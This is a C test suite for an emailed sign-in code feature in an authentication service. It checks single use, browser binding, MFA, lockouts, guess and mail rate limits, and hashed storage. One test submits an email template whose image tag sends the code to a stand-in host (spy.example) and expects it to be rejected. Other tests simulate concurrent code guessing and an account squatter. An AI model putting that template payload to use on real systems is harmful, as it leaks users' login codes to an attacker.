/*
 * test_mail_code.c - sign-in with an emailed code: access, verification, guesses, floods and theft.
 */
#include <CUnit/CUnit.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tests/support/suite.h"
#include "tests/support/suite_command.h"
#include "tests/support/totp.h"
#include "tests/support/unit.h"

#define START "/auth/tenant/Patient/code/start"
#define ENTER "/auth/tenant/Patient/login/code"
#define STAFF_START "/auth/tenant/Practitioner/code/start"
#define STAFF_ENTER "/auth/tenant/Practitioner/login/code"

enum { MINUTE = 60, HOUR = 3600, DAY = 86400, FLOOR_MS = 250, AT_ONCE = 32 };

static const char wrong[] = "The code is incorrect.";
static const char over[] = "Login session is invalid or has expired.";

static struct suite *suite;
static struct person *admin;

static void renew_admin(void)
{
    person_destroy(&admin);
    admin = person_admin(suite);
}

static void set_policy(json_t *body)
{
    HTTP_ANSWER answer =
        http_call(suite_url(suite), &(struct http_request){.method = "PUT",
                                                           .path = "/v1/project/account-policy",
                                                           .bearer = admin->access,
                                                           .body = body});
    CHECK_STATUS(answer, 200);
}

static struct http_answer *start_at(const char *path, const char *email, const char *tenant)
{
    return suite_post_fresh(suite, path,
                            json_pack("{s:s, s:s, s:s}", "email", email, "tenantCode", tenant,
                                      "codeChallenge", pkce_challenge));
}

static json_t *body_code(const char *login, const char *code)
{
    return json_pack("{s:s, s:s}", "loginId", login, "code", code);
}

static struct http_answer *enter_at(const char *path, const char *login, const char *code)
{
    return suite_post_fresh(suite, path, body_code(login, code));
}

static char *start(const char *email)
{
    HTTP_ANSWER answer = start_at(START, email, "demo");

    CHECK_STATUS(answer, 200);
    CU_ASSERT_STRING_EQUAL(http_text(answer, "nextStep"), "code");
    return strdup(http_text(answer, "loginId"));
}

static const char *mailed_code(const char *email)
{
    return suite_mail_code(suite, email);
}

static const char *wrong_code(const char *code, unsigned number)
{
    static char other[16];

    snprintf(other, sizeof(other), "%06lu", (strtoul(code, NULL, 10) + 1 + number) % 1000000);
    return other;
}

static struct http_answer *token(const char *role, const char *code, const char *tenant)
{
    char path[64];

    snprintf(path, sizeof(path), "/auth/tenant/%s/login/token", role);
    return suite_post_fresh(suite, path, body_login_token(code, tenant));
}

/* Signs in with a new emailed code and returns the access token, which the caller frees. */
static char *sign_in(const char *email, const char *method)
{
    char *login = start(email);
    HTTP_ANSWER entered = enter_at(ENTER, login, mailed_code(email));
    HTTP_ANSWER tokens = token("Patient", http_text(entered, "sessionCode"), NULL);
    HTTP_ANSWER sessions = http_get(suite_url(suite), "/auth/me", http_text(tokens, "accessToken"));

    free(login);
    CU_ASSERT_STRING_EQUAL(http_text(entered, "nextStep"), "token");
    CHECK_STATUS(tokens, 200);
    CHECK_STATUS(sessions, 200);
    CU_ASSERT_STRING_EQUAL(http_text(sessions, "security.sessions.0.authMethod"), method);
    return strdup(http_text(tokens, "accessToken"));
}

static bool is_verified(const char *access)
{
    HTTP_ANSWER answer = http_get(suite_url(suite), "/auth/me", access);

    CHECK_STATUS(answer, 200);
    return json_is_true(http_member(answer, "security.emailVerified"));
}

static void enroll(const char *access, uint8_t secret[static TOTP_SECRET])
{
    char code[7];
    HTTP_ANSWER status = http_get(suite_url(suite), "/auth/mfa/status", access);

    totp_read(http_text(status, "otpauthUrl"), secret);
    HTTP_ANSWER enrolled =
        http_post(suite_url(suite), "/auth/mfa/enroll", access,
                  json_pack("{s:s}", "token", totp_code(secret, suite_now(suite), code)));
    CHECK_STATUS(enrolled, 200);
}

static size_t mails(const char *email)
{
    suite_mails_settle(suite);
    return suite_mail_count(suite, email);
}

static void it_is_off_until_it_is_switched_on(void)
{
    admin = person_admin(suite);
    HTTP_ANSWER policy = http_get(suite_url(suite), "/v1/project/account-policy", admin->access);
    HTTP_ANSWER patient = start_at(START, "ana@patients.example", "demo");
    HTTP_ANSWER practitioner = start_at(STAFF_START, admin->email, "demo");

    CU_ASSERT_TRUE(json_is_false(http_member(policy, "mailCode")));
    CHECK_ERROR(patient, 403, "Sign-in with an emailed code is disabled.");
    CHECK_ERROR(practitioner, 403, "Sign-in with an emailed code is disabled.");
    set_policy(json_pack("{s:b}", "mailCode", 1));
    free(start("ana@patients.example"));
    HTTP_ANSWER elsewhere = start_at(START, "ana@patients.example", "nowhere");
    CHECK_STATUS(elsewhere, 404);
    suite_set_switch(suite, admin->access, "PATIENT_LOGIN_ENABLED", false);
    HTTP_ANSWER closed = start_at(START, "ana@patients.example", "demo");
    CHECK_ERROR(closed, 403, "Login is not enabled.");
    suite_set_switch(suite, admin->access, "PATIENT_LOGIN_ENABLED", true);
}

static void switching_off_ends_what_waits(void)
{
    PERSON patient = person_register_settled(suite);
    char *login = start(patient->email);

    set_policy(json_pack("{s:b}", "mailCode", 0));
    HTTP_ANSWER refused = enter_at(ENTER, login, mailed_code(patient->email));
    CHECK_STATUS(refused, 403);
    set_policy(json_pack("{s:b}", "mailCode", 1));
    HTTP_ANSWER taken = enter_at(ENTER, login, mailed_code(patient->email));
    CHECK_STATUS(taken, 200);
    free(login);
}

static void a_code_signs_in_once_and_proves_the_address(void)
{
    PERSON patient = person_register_settled(suite);
    char *login = start(patient->email), *code = strdup(mailed_code(patient->email));

    CU_ASSERT_FALSE(is_verified(patient->access));
    HTTP_ANSWER entered = enter_at(ENTER, login, code);
    CHECK_STATUS(entered, 200);
    HTTP_ANSWER again = enter_at(ENTER, login, code);
    CHECK_ERROR(again, 400, over);
    HTTP_ANSWER tokens = token("Patient", http_text(entered, "sessionCode"), NULL);
    CHECK_STATUS(tokens, 200);
    CU_ASSERT_TRUE(is_verified(http_text(tokens, "accessToken")));
    free(sign_in(patient->email, "mail-code"));
    free(code);
    free(login);
}

/* Another browser cannot use the email's code, because the session code needs the verifier. */
static void a_code_serves_the_browser_that_asked(void)
{
    PERSON patient = person_register_settled(suite);
    char *login = start(patient->email);
    HTTP_ANSWER entered = enter_at(ENTER, login, mailed_code(patient->email));
    HTTP_ANSWER refused = suite_post_fresh(
        suite, "/auth/tenant/Patient/login/token",
        json_pack("{s:s, s:s}", "sessionCode", http_text(entered, "sessionCode"), "codeVerifier",
                  "another-verifier-another-verifier-another-verif"));

    CHECK_ERROR(refused, 400, over);
    char *other = start(patient->email);
    HTTP_ANSWER elsewhere = enter_at(ENTER, other, wrong_code(mailed_code(patient->email), 0));
    CHECK_ERROR(elsewhere, 400, wrong);
    HTTP_ANSWER role = enter_at(STAFF_ENTER, other, mailed_code(patient->email));
    CHECK_ERROR(role, 400, over);
    free(other);
    free(login);
}

static void practitioners_sign_in_to_the_tenant_that_they_named(void)
{
    UNUSED PERSON child = person_admin_of_child(suite, "mail-code-child");
    HTTP_ANSWER begun = start_at(STAFF_START, admin->email, "demo");
    HTTP_ANSWER off = start_at(STAFF_START, admin->email, "mail-code-child");

    CHECK_STATUS(begun, 200);
    CHECK_STATUS(off, 403);
    HTTP_ANSWER entered =
        enter_at(STAFF_ENTER, http_text(begun, "loginId"), mailed_code(admin->email));
    CHECK_STATUS(entered, 200);
    CU_ASSERT_EQUAL(json_array_size(http_member(entered, "tenants")), 1);
    CU_ASSERT_STRING_EQUAL(http_text(entered, "tenants.0.tenantCode"), "demo");
    HTTP_ANSWER other = token("Practitioner", http_text(entered, "sessionCode"), "mail-code-child");
    CHECK_STATUS(other, 400);
    HTTP_ANSWER tokens = token("Practitioner", http_text(entered, "sessionCode"), NULL);
    CHECK_STATUS(tokens, 200);
}

static void a_factor_that_is_on_is_asked_for(void)
{
    PERSON patient = person_register_settled(suite);
    uint8_t secret[TOTP_SECRET];
    char digits[7], *access = sign_in(patient->email, "mail-code");

    enroll(access, secret);
    suite_advance_clock(suite, MINUTE);
    char *login = start(patient->email);
    HTTP_ANSWER entered = enter_at(ENTER, login, mailed_code(patient->email));
    CU_ASSERT_STRING_EQUAL(http_text(entered, "nextStep"), "mfa");
    CU_ASSERT_STRING_EQUAL(http_text(entered, "sessionCode"), "");
    HTTP_ANSWER shown =
        suite_post_fresh(suite, "/auth/tenant/Patient/login/mfa",
                         json_pack("{s:s, s:s}", "loginId", http_text(entered, "loginId"),
                                   "mfaToken", totp_code(secret, suite_now(suite), digits)));
    HTTP_ANSWER tokens = token("Patient", http_text(shown, "sessionCode"), NULL);
    CHECK_STATUS(tokens, 200);
    CU_ASSERT_EQUAL(suite_count(suite,
                                "select count(*) from auth.session s join auth.account a on a.id = "
                                "s.account_id where a.email = '%s' and s.auth_method = "
                                "'mail-code+totp'",
                                patient->email),
                    1);
    free(login);
    free(access);
}

static void a_code_is_one_factor(void)
{
    PERSON patient = person_register_settled(suite);
    char *access = sign_in(patient->email, "mail-code");

    suite_require_mfa(suite, "everyone");
    HTTP_ANSWER refused = http_get(suite_url(suite), "/document", access);
    CHECK_STATUS(refused, 403);
    CU_ASSERT_STRING_EQUAL(http_text(refused, "code"), "MFA_ENROLLMENT_REQUIRED");
    suite_require_mfa(suite, "none");
    free(access);
}

/* An attacker has registered the owner's address and enabled a second factor. */
static void the_mailbox_beats_the_squatter(void)
{
    PERSON squatter = person_register_settled(suite);
    uint8_t secret[TOTP_SECRET];

    enroll(squatter->access, secret);
    char *access = sign_in(squatter->email, "mail-code");
    CU_ASSERT_TRUE(suite_everywhere(suite, squatter->access, 401));
    CU_ASSERT_TRUE(suite_everywhere(suite, access, 200));
    CU_ASSERT_TRUE(is_verified(access));
    PERSON again = person_sign_in(suite, "Patient", squatter->email, squatter->password, NULL);
    CU_ASSERT_NOT_EQUAL(again->status, 200);
    CU_ASSERT_EQUAL(suite_count(suite,
                                "select count(*) from auth.mfa_factor f join auth.account a on "
                                "a.id = f.account_id where a.email = '%s' and enrolled_at is not "
                                "null",
                                squatter->email),
                    0);
    free(access);
}

static void a_proven_account_keeps_what_it_has(void)
{
    PERSON patient = person_register_settled(suite);
    char *first = sign_in(patient->email, "mail-code");
    long changes = suite_count(suite,
                               "select changes from auth.credential c join auth.account a on a.id "
                               "= c.account_id where a.email = '%s'",
                               patient->email);
    char *second = sign_in(patient->email, "mail-code");

    CU_ASSERT_TRUE(suite_everywhere(suite, first, 200));
    CU_ASSERT_EQUAL(suite_count(suite,
                                "select changes from auth.credential c join auth.account a on "
                                "a.id = c.account_id where a.email = '%s'",
                                patient->email),
                    changes);
    free(first);
    free(second);
}

static void set_address(const char *from, const char *to)
{
    CU_ASSERT_EQUAL(suite_count(suite,
                                "with done as (update auth.account set email = '%s' where email = "
                                "'%s' returning 1) select count(*) from done",
                                to, from),
                    1);
}

static void a_code_is_good_for_the_present_address_only(void)
{
    PERSON patient = person_register_settled(suite);
    char *other = person_address();
    char *login = start(patient->email);
    char *code = strdup(mailed_code(patient->email));

    for (int i = 0; i < 2; i++) { /* unverified, then verified */
        set_address(patient->email, other);
        HTTP_ANSWER late = enter_at(ENTER, login, code);
        CHECK_ERROR(late, 400, "Login session is invalid or has expired.");
        set_address(other, patient->email);
        if (i == 0)
            free(sign_in(patient->email, "mail-code"));
    }
    HTTP_ANSWER again = enter_at(ENTER, login, code);
    CHECK_STATUS(again, 200);
    free(code);
    free(login);
    free(other);
}

static void a_locked_account_stays_locked(void)
{
    PERSON patient = person_register_settled(suite);
    char *login = start(patient->email);
    PROGRAM lock = ATRIUMCTL(suite, NULL, "user", "lock", patient->email, "--role", "Patient");

    CU_ASSERT_EQUAL(lock->code, 0);
    HTTP_ANSWER entered = enter_at(ENTER, login, mailed_code(patient->email));
    CHECK_STATUS(entered, 403);
    CU_ASSERT_STRING_EQUAL(http_text(entered, "code"), "ACCOUNT_LOCKED");
    HTTP_ANSWER again = enter_at(ENTER, login, mailed_code(patient->email));
    CHECK_ERROR(again, 400, over);
    free(login);
}

static void addresses_without_an_account_get_the_same(void)
{
    PERSON patient = person_register_settled(suite);
    char *unused = person_address();
    HTTP_ANSWER known = start_at(START, patient->email, "demo");
    HTTP_ANSWER unknown = start_at(START, unused, "demo");

    CHECK_STATUS(known, 200);
    CHECK_STATUS(unknown, 200);
    CU_ASSERT_EQUAL(known->size, unknown->size);
    UNIT_CHECK(http_took(known, FLOOR_MS) && http_took(unknown, FLOOR_MS), "%.3f and %.3f s",
               known->seconds, unknown->seconds);
    CU_ASSERT_EQUAL(mails(unused), 0);
    for (int i = 0; i < 6; i++) {
        const char *code = wrong_code(mailed_code(patient->email), (unsigned)i);
        HTTP_ANSWER one = enter_at(ENTER, http_text(known, "loginId"), code);
        HTTP_ANSWER other = enter_at(ENTER, http_text(unknown, "loginId"), code);

        CHECK_ERROR(one, 400, i < 5 ? wrong : over);
        CHECK_ERROR(other, 400, i < 5 ? wrong : over);
    }
    free(unused);
}

static void five_wrong_codes_end_a_sign_in(void)
{
    PERSON patient = person_register_settled(suite);
    char *login = start(patient->email);

    for (unsigned i = 0; i < 5; i++) {
        HTTP_ANSWER guess = enter_at(ENTER, login, wrong_code(mailed_code(patient->email), i));
        CHECK_ERROR(guess, 400, wrong);
    }
    HTTP_ANSWER right = enter_at(ENTER, login, mailed_code(patient->email));
    CHECK_ERROR(right, 400, over);
    free(login);
    HTTP_ANSWER form = enter_at(ENTER, "00000000-0000-4000-8000-000000000000", "12345x");
    CHECK_PROBLEM(form, "code");
}

static void a_code_lives_ten_minutes(void)
{
    PERSON patient = person_register_settled(suite);
    char *first = start(patient->email);

    suite_advance_clock(suite, 10 * MINUTE - 5);
    HTTP_ANSWER late = enter_at(ENTER, first, mailed_code(patient->email));
    CHECK_STATUS(late, 200);
    char *second = start(patient->email);
    suite_advance_clock(suite, 10 * MINUTE + 1);
    HTTP_ANSWER over_now = enter_at(ENTER, second, mailed_code(patient->email));
    CHECK_ERROR(over_now, 400, over);
    CU_ASSERT_TRUE(suite_comes_to(
        suite, 0, 60000, "select count(*) from auth.mail_code where email = '%s'", patient->email));
    free(first);
    free(second);
}

static void an_account_is_mailed_five_codes_an_hour(void)
{
    PERSON patient = person_register_settled(suite);
    size_t before = mails(patient->email);

    for (int i = 0; i < 8; i++)
        free(start(patient->email));
    CU_ASSERT_EQUAL(mails(patient->email), before + 5);
    suite_advance_clock(suite, HOUR + 1);
    free(sign_in(patient->email, "mail-code"));
}

/* Enters `count` codes concurrently, each from its own address, taking turns between the sign-ins.
 * Returns how many responses say whether the code was right. */
static int guess_at_once(char *const *logins, size_t sign_ins, size_t count, const char *code,
                         bool right)
{
    struct http_request requests[AT_ONCE];
    struct http_answer *answers[AT_ONCE];
    char *sources[AT_ONCE];
    int told = 0;

    for (size_t i = 0; i < count; i++) {
        sources[i] = fresh_source();
        requests[i] = (struct http_request){
            .method = "POST",
            .path = ENTER,
            .source = sources[i],
            .body = body_code(logins[i % sign_ins], right ? code : wrong_code(code, (unsigned)i))};
    }
    http_call_many(suite_url(suite), requests, count, count, answers);
    for (size_t i = 0; i < count; i++) {
        told += right ? answers[i]->status == 200
                      : strcmp(http_text(answers[i], "message"), wrong) == 0;
        if (!right)
            UNIT_CHECK(answers[i]->status == 400 || answers[i]->status == 429, "%d",
                       answers[i]->status);
        free(sources[i]);
    }
    http_answers_destroy(answers, count);
    return told;
}

static void of_many_right_codes_one_wins(void)
{
    PERSON patient = person_register_settled(suite);
    char *login = start(patient->email);

    CU_ASSERT_EQUAL(guess_at_once(&login, 1, AT_ONCE / 2, mailed_code(patient->email), true), 1);
    free(login);
}

static void a_right_code_behind_five_wrong_ones_is_late(void)
{
    PERSON patient = person_register_settled(suite);
    char *login = start(patient->email), sql[128];
    const char *code = mailed_code(patient->email);
    PGconn *counting = suite_database(suite);
    int status = -1;
    pid_t late;

    snprintf(sql, sizeof(sql), "update auth.mail_code set failures = 5 where email = '%s'",
             patient->email);
    PQclear(PQexec(counting, "begin"));
    PQclear(PQexec(counting, sql));
    late = fork();
    if (late == 0) {
        HTTP_ANSWER right = enter_at(ENTER, login, code);

        _exit(right->status == 400 ? 0 : 1);
    }
    CU_ASSERT_TRUE(suite_waits_for_rows(suite, "authd", 1));
    PQclear(PQexec(counting, "commit"));
    PQfinish(counting);
    UNIT_CHECK(waitpid(late, &status, 0) == late && status == 0, "status %d", status);
    free(login);
}

/* Ten wrong codes a day, counted across all sign-ins of the account, also concurrent ones. */
static void ten_wrong_codes_close_the_day(void)
{
    PERSON patient = person_register_settled(suite);
    char *logins[5];

    for (size_t i = 0; i < ARRAY_SIZE(logins); i++)
        logins[i] = start(patient->email);
    CU_ASSERT_EQUAL(guess_at_once(logins, ARRAY_SIZE(logins) - 1, AT_ONCE,
                                  mailed_code(patient->email), false),
                    10);
    HTTP_ANSWER right = enter_at(ENTER, logins[4], mailed_code(patient->email));
    CHECK_STATUS(right, 429);
    UNIT_CHECK(http_retry_after(right) > 23 * HOUR, "%ld", http_retry_after(right));
    suite_advance_clock(suite, 2 * HOUR);
    size_t before = mails(patient->email);
    free(start(patient->email));
    CU_ASSERT_EQUAL(mails(patient->email), before);
    PERSON in = person_sign_in(suite, "Patient", patient->email, patient->password, NULL);
    CU_ASSERT_EQUAL(in->status, 200);
    suite_advance_clock(suite, DAY);
    free(sign_in(patient->email, "mail-code"));
    for (size_t i = 0; i < ARRAY_SIZE(logins); i++)
        free(logins[i]);
}

static void the_table_holds_no_code(void)
{
    PERSON patient = person_register_settled(suite);
    char *login = start(patient->email);
    const char *code = mailed_code(patient->email);

    CU_ASSERT_EQUAL(suite_count(suite,
                                "select count(*) from auth.mail_code m where email = '%s' and "
                                "(m::text like '%%%s%%' or m::text like '%%%s%%' or "
                                "code_hash = sha256('%s'::bytea))",
                                patient->email, code, login, code),
                    0);
    CU_ASSERT_EQUAL(suite_count(suite,
                                "select count(*) from auth.mail_code where id_hash = "
                                "sha256('%s'::bytea)",
                                login),
                    1);
    free(login);
}

static void put_template(const char *html, int status)
{
    HTTP_ANSWER answer = http_call(
        suite_url(suite),
        &(struct http_request){.method = "PUT",
                               .path = "/v1/project/email-templates/SIGN_IN_CODE",
                               .bearer = admin->access,
                               .body = json_pack("{s:s, s:s, s:s}", "subject", "The code", "text",
                                                 "Of the tenant: {{code}}", "html", html)});
    CHECK_STATUS(answer, status);
}

static void a_tenant_writes_to_its_own_people(void)
{
    PERSON patient = person_register_settled(suite);
    char *mail;

    renew_admin();
    put_template("<img src=\"https://spy.example/{{code}}\">", 422);
    put_template("<p>{{code}}</p>", 200);
    free(sign_in(patient->email, "mail-code"));
    free(start(patient->email));
    suite_mails_settle(suite);
    mail = suite_mail(suite, patient->email, 1000);
    CU_ASSERT_TRUE(mail && strstr(mail, "Of the tenant: "));
    free(mail);
    HTTP_ANSWER begun = start_at(STAFF_START, admin->email, "demo");
    CHECK_STATUS(begun, 200);
    suite_mails_settle(suite);
    mail = suite_mail(suite, admin->email, 1000);
    CU_ASSERT_TRUE(mail && strstr(mail, "Of the tenant: "));
    free(mail);
    CU_ASSERT_EQUAL(
        suite_count(suite,
                    "with made as (insert into auth.membership (project_id, id, account_id, "
                    "profile_id, created_at) select gen_random_uuid(), gen_random_uuid(), id, "
                    "gen_random_uuid(), 0 from auth.account where email = '%s' and role = "
                    "'Practitioner' returning 1) select count(*) from made",
                    admin->email),
        1);
    HTTP_ANSWER another = start_at(STAFF_START, admin->email, "demo");
    CHECK_STATUS(another, 200);
    suite_mails_settle(suite);
    mail = suite_mail(suite, admin->email, 1000);
    CU_ASSERT_TRUE(mail && !strstr(mail, "Of the tenant: "));
    free(mail);
    HTTP_ANSWER gone =
        http_delete(suite_url(suite), "/v1/project/email-templates/SIGN_IN_CODE", admin->access);
    CHECK_STATUS(gone, 204);
}

static void kill_authds(void)
{
    for (int i = 1; i <= 2; i++) {
        char instance[2] = {(char)('0' + i), '\0'};
        pid_t pid = suite_pid(suite, "authd", instance);

        suite_signal(suite, "authd", instance, SIGKILL);
        CU_ASSERT_TRUE(suite_wait_new_pid(suite, "authd", instance, pid));
    }
}

static void a_killed_authd_forgets_nothing(void)
{
    PERSON patient = person_register_settled(suite);
    char *login = start(patient->email);

    HTTP_ANSWER guess = enter_at(ENTER, login, wrong_code(mailed_code(patient->email), 0));
    CHECK_ERROR(guess, 400, wrong);
    kill_authds();
    CU_ASSERT_EQUAL(suite_count(suite, "select failures from auth.mail_code where email = '%s'",
                                patient->email),
                    1);
    HTTP_ANSWER entered = enter_at(ENTER, login, mailed_code(patient->email));
    kill_authds();
    HTTP_ANSWER tokens = token("Patient", http_text(entered, "sessionCode"), NULL);
    CHECK_STATUS(tokens, 200);
    free(login);
}

static void suite_shuts_down_cleanly(void)
{
    person_destroy(&admin);
    suite_stop(&suite);
}

static const struct unit_case cases[] = {
    CASE_ALWAYS(it_is_off_until_it_is_switched_on),
    CASE(switching_off_ends_what_waits),
    CASE(a_code_signs_in_once_and_proves_the_address),
    CASE(a_code_serves_the_browser_that_asked),
    CASE(practitioners_sign_in_to_the_tenant_that_they_named),
    CASE(a_factor_that_is_on_is_asked_for),
    CASE(a_code_is_one_factor),
    CASE(the_mailbox_beats_the_squatter),
    CASE(a_proven_account_keeps_what_it_has),
    CASE(a_code_is_good_for_the_present_address_only),
    CASE(a_locked_account_stays_locked),
    CASE(addresses_without_an_account_get_the_same),
    CASE(five_wrong_codes_end_a_sign_in),
    CASE(a_code_lives_ten_minutes),
    CASE(an_account_is_mailed_five_codes_an_hour),
    CASE(of_many_right_codes_one_wins),
    CASE(a_right_code_behind_five_wrong_ones_is_late),
    CASE(ten_wrong_codes_close_the_day),
    CASE(the_table_holds_no_code),
    CASE(a_tenant_writes_to_its_own_people),
    CASE(a_killed_authd_forgets_nothing),
    CASE_ALWAYS(suite_shuts_down_cleanly),
};

int main(void)
{
    suite =
        suite_start(&(struct suite_options){.instances = "authd=2,gateway=2", .test_clock = true});
    return unit_run("mail codes", cases, ARRAY_SIZE(cases));
}
